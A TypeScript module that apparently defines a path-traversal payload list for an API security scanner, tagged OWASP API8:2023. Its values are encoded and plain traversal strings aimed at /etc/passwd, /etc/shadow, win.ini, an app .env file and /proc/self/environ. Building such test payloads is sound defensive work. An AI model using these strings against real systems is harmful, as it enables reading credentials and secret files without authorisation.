import { definePayload } from '../world/payloads.ts'

export default definePayload({
  id: 'injection-path',
  title: 'paths that climb out of their folder',
  owasp: ['API8:2023'],
  inputs: ['text', 'path'],
  values: [
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '....//....//....//etc/passwd',
    '/etc/shadow',
    '..\\..\\..\\windows\\win.ini',
    '%2e%2e%2f%2e%2e%2fapp/.env',
    '/proc/self/environ',
    '../../app/config/#.yaml',
    'file:///etc/hosts',
    '..%c0%af..%c0%afetc/passwd',
  ],
})
